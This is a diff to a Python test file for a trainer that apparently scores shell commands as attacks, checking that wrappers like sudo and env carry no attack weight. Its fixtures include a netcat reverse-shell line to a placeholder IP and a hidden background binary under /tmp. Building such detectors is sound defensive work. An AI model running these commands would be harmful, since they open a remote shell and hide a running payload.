@@ -494,7 +494,22 @@ def test_a_feature_weighs_for_an_attack_only_if_several_sets_attacks_hold_it() -
     for min_sets, allowed in ((1, True), (3, False)):
         weights = ts.Trainer(items, min_sets).fit(list(range(len(items)))).weights
         assert (weights.get(b"t:frobnicate", 0.0) > 0) is allowed
-        assert weights.get(b"t:nc", 0.0) > 0
+        positive = [f for f, w in weights.items() if w > 0]
+        assert positive and all(support[f] >= min_sets for f in positive)
+
+
+def test_a_privilege_or_environment_wrapper_never_weighs_for_an_attack() -> None:
+    pytest.importorskip("sklearn", reason="training needs the 'train' extra (scikit-learn)")
+    ts: Any = _train_scorer_module()
+    neutral = ts.neutral_features()
+    assert {b"t:sudo", b"c:sudo", b"g: sudo", b"g:sudo ", b"g:udo "} <= neutral
+    items = [ts.Item(g, 1, f"sudo nc -e /bin/sh 203.0.113.{n} 4444") for n, g in enumerate("123")]
+    items += [ts.Item("2", 1, f"sudo env X=1 nohup /tmp/.x/kw{n} &") for n in range(20)]
+    items += [ts.Item("breadth", 0, line) for line in ("ls -la", "git status", "make test")]
+    for use, positive in ((True, False), (False, True)):
+        weights = ts.Trainer(items, neutral=use).fit(list(range(len(items)))).weights
+        assert any(weights.get(f, 0.0) > 0 for f in neutral) is positive
+        assert any(w > 0 for f, w in weights.items() if f not in neutral)  # the rest weighs
 
 
 def test_the_ship_check_names_what_keeps_a_model_from_shipping() -> None:
